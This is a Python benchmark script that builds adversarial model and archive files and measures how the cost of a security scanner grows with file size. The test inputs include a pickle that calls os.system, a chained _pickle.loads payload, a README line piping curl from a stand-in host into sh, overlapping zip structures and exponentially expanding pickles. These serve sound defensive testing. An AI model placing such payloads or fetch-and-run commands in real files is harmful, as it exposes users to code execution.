#!/usr/bin/env python3
"""How the cost of a scan grows with what is scanned, hostile files included.

    python3 benches/growth.py WEIGHIN FOLDER [--runs N] [--only CASE,...]

Makes each case in two sizes, one ten times the other (nesting: twice), scans
both on one thread, and prints the processor time of each and the slope: 1.0 is
linear, 2.0 quadratic. What a start costs is taken off first. Fails when a slope
is above 1.3, with the reasons of noise and caches allowed for; cases too quick
to tell say so.
"""

import argparse
import gzip
import io
import json
import math
import multiprocessing
import os
import pickle
import random
import statistics
import struct
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

BOUND = 1.3
MEANS_SOMETHING = 0.004  # seconds that the larger file must take

# --- files: each takes a folder and a count, and writes the case there --------


def write(folder, name, data):
    (folder / name).write_bytes(data)


def small_files(folder, n):
    for at in range(n):
        write(folder, f"file{at}.pkl", pickle.dumps({"at": at, "values": list(range(20))}, 4))


def safetensors_size(folder, n):
    size = n << 16
    header = json.dumps({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()
    write(folder, "model.safetensors", struct.pack("<Q", len(header)) + header + random.Random(1).randbytes(1 << 16) * n)


def safetensors_tensors(folder, n):
    table = {f"layer{at}": {"dtype": "U8", "shape": [1], "data_offsets": [at, at + 1]} for at in range(n)}
    header = json.dumps(table).encode()
    write(folder, "model.safetensors", struct.pack("<Q", len(header)) + header + bytes(n))


def safetensors_overlaps(folder, n):
    table = {f"layer{at}": {"dtype": "U8", "shape": [n], "data_offsets": [0, n]} for at in range(n)}
    header = json.dumps(table).encode()
    write(folder, "model.safetensors", struct.pack("<Q", len(header)) + header + bytes(n))


def gguf_pairs(folder, n):
    def text(value):
        return struct.pack("<Q", len(value)) + value

    pairs = b"".join(text(b"key%d" % at) + struct.pack("<I", 8) + text(b"value") for at in range(n))
    write(folder, "model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, n) + pairs)


def pickle_tuples(folder, n):
    write(folder, "model.pkl", b"\x80\x04](" + b"".join(b"J" + struct.pack("<i", at) + b"\x85\x94" for at in range(n)) + b"e.")


def pickle_calls(folder, n):
    call = b"cmodels\nLayer\n(K\1K\2tR0"
    write(folder, "model.pkl", b"\x80\x02" + call * n + b"N.")


def pickle_distinct_calls(folder, n):
    calls = b"".join(b"cmodels\nLayer%d\n(K\1K\2tR0" % at for at in range(n))
    write(folder, "model.pkl", b"\x80\x02" + calls + b"N.")


def pickle_streams(folder, n):
    write(folder, "model.pkl", pickle.dumps([1, 2, 3], 4) * n)


def pickle_doubling(folder, n):
    # Each value holds the one before twice: 2^n items when written out.
    write(folder, "model.pkl", b"\x80\x04]\x94" + b"".join(b"h%c\x86\x94" % 0 if at == 0 else b"\x88\x86\x94" for at in range(n)) + b".")


def pickle_deep(folder, n):
    write(folder, "model.pkl", b"\x80\x04" + b"]" * n + b"a" * (n - 1) + b".")


def pickle_marks(folder, n):
    write(folder, "model.pkl", b"\x80\x04" + b"(" * n + b"1" * n + b"N.")


def pickle_folds(folder, n):
    write(folder, "model.pkl", b"\x80\x03" + b"c_operator\nadd\n(X\1\0\0\0aX\1\0\0\0btR0" * n + b"N.")


def pickle_starts(folder, n):
    # What looks like the start of a pickle, and never ends.
    write(folder, "weights.safetensors", safetensors_around(b"\x80\x04]\x94(" * n))


def pickle_constants(folder, n):
    # The same, and what only looks encoded, as values of a pickle. Beyond 16 MiB,
    # where a file is no longer kept in memory, each costs nine reads more.
    values = [(b"\x80\x04]\x94(" * 8 + b"%d" % at, "gASV" + "A" * 40 + str(at)) for at in range(n)]
    write(folder, "model.pkl", pickle.dumps(values, 4))


def safetensors_around(data):
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode()
    return struct.pack("<Q", len(header)) + header + data


def executable_starts(folder, n):
    write(folder, "weights.safetensors", safetensors_around((b"MZ" + bytes(58) + b"\x40\0\0\0") * n))


def pickles_in_tensor(folder, n):
    write(folder, "weights.safetensors", safetensors_around(b"\x80\x02cos\nsystem\nX\4\0\0\0echo\x85R." * n))


def zip_members(folder, n):
    with zipfile.ZipFile(folder / "archive.zip", "w") as archive:
        for at in range(n):
            archive.writestr(zipfile.ZipInfo(f"member{at}.txt"), b"text")


def zip_overlaps(folder, n):
    """One local header and data, and a directory that lists it n times."""
    data = b"text" * 64
    with zipfile.ZipFile(whole := io.BytesIO(), "w") as archive:
        archive.writestr(zipfile.ZipInfo("member"), data)
    whole = whole.getvalue()
    start = whole.index(b"PK\1\2")
    entry = whole[start : whole.index(b"PK\5\6")]
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, n & 0xFFFF, n & 0xFFFF, len(entry) * n, start, 0)
    write(folder, "archive.zip", whole[:start] + entry * n + end)


def zip_headers(folder, n):
    """Local headers whose data runs over all that follow."""
    header = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 1 << 20, 1 << 20, 1, 0) + b"a"
    write(folder, "archive.zip", header * n)


def zip_ends(folder, n):
    write(folder, "archive.zip", (struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0, 0, 0, 0, 0)) * n)


def tar_members(folder, n):
    with tarfile.open(folder / "archive.tar", "w", format=tarfile.USTAR_FORMAT) as archive:
        for at in range(n):
            info = tarfile.TarInfo(f"member{at}.txt")
            info.size = 4
            archive.addfile(info, io.BytesIO(b"text"))


def gzip_streams(folder, n):
    write(folder, "data.gz", gzip.compress(b"x", mtime=0) * n)


def json_keys(folder, n):
    write(folder, "config.json", json.dumps({f"key{at}": at for at in range(n)}).encode())


def json_deep(folder, n):
    write(folder, "config.json", b"[" * n + b"]" * n)


def yaml_aliases(folder, n):
    write(folder, "config.yaml", b"a: &a x\n" + b"".join(b"key%d: *a\n" % at for at in range(n)))


def python_lines(folder, n):
    write(folder, "modeling.py", b"".join(b"value_%d = call(%d)\n" % (at, at) for at in range(n)))


def python_names(folder, n):
    write(folder, "modeling.py", b"a = 'x'\n" + b"a = a + 'y'\n" * n + b"print(a)\n")


def python_loops(folder, n):
    write(folder, "modeling.py", b"for a in range(99):\n    for b in range(99):\n        c = a * b\n" * n)


def python_small_loops(folder, n):
    for at in range(n):
        write(folder, f"modeling_{at}.py", b"for a in range(99):\n    for b in range(99):\n        c = [a * d for d in range(99)]\n")


def template_lines(folder, n):
    write(folder, "chat_template.jinja", b"{% if message['role'] == 'user' %}{{ message.content }}{% endif %}\n" * n)


def template_joins(folder, n):
    write(folder, "chat_template.jinja", b"{{ 'a'" + b" ~ 'b'" * n + b" }}\n")


def text_words(folder, n):
    write(folder, "README.md", b"word curl http://example.invalid/x | sh\n" * n)


def base64_text(folder, n):
    write(folder, "data.txt", b"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\n" * n)


def onnx_nodes(folder, n):
    def field(number, data):
        length, size = len(data), b""
        while True:
            size += bytes([length & 0x7F | (0x80 if length > 0x7F else 0)])
            length >>= 7
            if not length:
                return bytes([number << 3 | 2]) + size + data

    node = field(1, field(1, b"x") + field(2, b"y") + field(4, b"Relu"))
    graph = node * n + field(2, b"graph")
    write(folder, "model.onnx", b"\x08\x08" + field(7, graph) + field(8, b"\x10\x11"))


def nested_zip(folder, n):
    data = pickle.dumps([1], 4)
    for _ in range(n):
        with zipfile.ZipFile(whole := io.BytesIO(), "w") as archive:
            archive.writestr(zipfile.ZipInfo("inner"), data)
            archive.writestr(zipfile.ZipInfo("padding"), bytes(1000))
        data = whole.getvalue()
    write(folder, "archive.zip", data)


def nested_pickle(folder, n):
    data = b"\x80\x03K\1."
    for _ in range(n):
        data = b"\x80\x03c_pickle\nloads\nB" + struct.pack("<I", len(data)) + data + b"\x85R."
    write(folder, "model.pkl", data)


# Name: what writes it, the smaller count, and by how much the larger is larger.
CASES = {
    "small files": (small_files, 2_000, 10),
    "size": (safetensors_size, 1_600, 10),
    "safetensors: tensors": (safetensors_tensors, 20_000, 10),
    "safetensors: overlapping tensors": (safetensors_overlaps, 20_000, 10),
    "gguf: pairs": (gguf_pairs, 20_000, 10),
    "pickle: tuples": (pickle_tuples, 200_000, 10),
    "pickle: one call, often": (pickle_calls, 20_000, 10),
    "pickle: many calls": (pickle_distinct_calls, 20_000, 10),
    "pickle: streams": (pickle_streams, 20_000, 10),
    "pickle: doubling": (pickle_doubling, 100_000, 10),
    "pickle: depth": (pickle_deep, 200_000, 10),
    "pickle: marks": (pickle_marks, 1_000_000, 10),
    "pickle: folded calls": (pickle_folds, 10_000, 10),
    "pickle: starts of pickles in constants": (pickle_constants, 10_000, 10),
    "tensor: starts of pickles": (pickle_starts, 20_000, 10),
    "tensor: starts of executables": (executable_starts, 100_000, 10),
    "tensor: pickles": (pickles_in_tensor, 50_000, 10),
    "zip: members": (zip_members, 3_000, 10),
    "zip: one member, listed often": (zip_overlaps, 30_000, 10),
    "zip: headers that overlap": (zip_headers, 30_000, 10),
    "zip: end records": (zip_ends, 10_000, 10),
    "tar: members": (tar_members, 1_500, 10),
    "gzip: streams": (gzip_streams, 40_000, 10),
    "json: keys": (json_keys, 50_000, 10),
    "json: depth": (json_deep, 100_000, 10),
    "yaml: aliases": (yaml_aliases, 20_000, 10),
    "python: lines": (python_lines, 5_000, 10),
    "python: a growing string": (python_names, 5_000, 10),
    "python: loops in loops": (python_loops, 20, 10),
    "python: small files that loop": (python_small_loops, 10, 10),
    "jinja: lines": (template_lines, 2_000, 10),
    "jinja: a long join": (template_joins, 1_000, 10),
    "text: commands": (text_words, 5_000, 10),
    "text: base64": (base64_text, 50_000, 10),
    "onnx: nodes": (onnx_nodes, 60_000, 10),
    "nested zips": (nested_zip, 6, 2),
    "nested pickles": (nested_pickle, 6, 2),
}

# --- measuring ---------------------------------------------------------------


def processor_time(command):
    """Seconds of processor time, and peak memory in MiB."""
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        _, _, used = os.wait4(process.pid, 0)
        process.returncode = 0
    return used.ru_utime + used.ru_stime, used.ru_maxrss / 1024


def made_apart(make, folder, n):
    """Makes a case in a process of its own: a child's peak memory counts what its parent held."""
    folder.mkdir()
    worker = multiprocessing.Process(target=make, args=(folder, n))
    worker.start()
    worker.join()
    if worker.exitcode != 0:
        sys.exit(f"{folder} could not be made")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("weighin")
    parser.add_argument("folder", type=Path)
    parser.add_argument("--runs", type=int, default=5)
    parser.add_argument("--only", default="")
    options = parser.parse_args()
    scan = [options.weighin, "scan", "--quiet", "-j", "1"]
    empty = options.folder / "start"
    empty.mkdir(parents=True, exist_ok=True)
    write(empty, "tiny.pkl", pickle.dumps(1, 4))
    start = statistics.median(processor_time([*scan, str(empty)])[0] for _ in range(20))
    print("| case | smaller | larger | times | slope | peak memory |\n| --- | --: | --: | --: | --: | --: |")
    steep = []
    for name in options.only.split(",") if options.only else CASES:
        make, count, factor = CASES[name]
        took, memory = [], 0
        for n in (count, count * factor):
            folder = options.folder / f"{make.__name__}-{n}"
            if not folder.exists():
                made_apart(make, folder, n)
            runs = [processor_time([*scan, str(folder)]) for _ in range(options.runs)]
            took.append(statistics.median(seconds for seconds, _ in runs) - start)
            memory = max(memory, *(peak for _, peak in runs))
        small, large = took
        if large < MEANS_SOMETHING:
            slope, shown = None, "too quick"
        else:
            slope = math.log(large / max(small, MEANS_SOMETHING / 10)) / math.log(factor)
            shown = f"{slope:.2f}"
        print(f"| {name} | {small * 1000:.1f} ms | {large * 1000:.1f} ms | {factor} | {shown} | {memory:.0f} MiB |", flush=True)
        if slope is not None and slope > BOUND and small > MEANS_SOMETHING / 4:
            steep.append(name)
    if steep:
        print("\nsteeper than linear: " + ", ".join(steep))
    return 1 if steep else 0


if __name__ == "__main__":
    sys.exit(main())
